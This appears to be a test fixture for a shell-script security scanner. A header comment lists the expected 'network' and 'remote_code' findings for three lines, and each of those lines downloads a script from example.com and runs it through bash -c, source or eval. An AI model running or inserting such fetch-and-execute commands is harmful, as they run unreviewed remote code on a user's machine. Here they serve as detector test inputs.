# expect: network@2 remote_code@2 network@3 remote_code@3 network@4 remote_code@4
bash -c "$(curl -fsSL https://example.com/x)"
source <(curl -s https://example.com/y)
eval "$(wget -qO- https://example.com/z)"
